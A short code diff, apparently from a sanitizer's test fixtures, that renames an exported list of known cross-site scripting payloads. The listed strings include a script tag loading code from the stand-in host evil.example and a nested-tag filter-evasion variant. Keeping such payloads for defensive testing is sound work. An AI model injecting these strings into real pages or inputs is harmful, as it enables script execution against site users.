@@ -1,5 +1,5 @@
 /** Known XSS payloads; each would set `window.pwned`. */
-export const XSS_VECTORS: readonly string[] = [
+export const XSS_PAYLOADS: readonly string[] = [
   '<script>window.pwned=1</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
   '<scr<script>ipt>window.pwned=1</scr</script>ipt>',
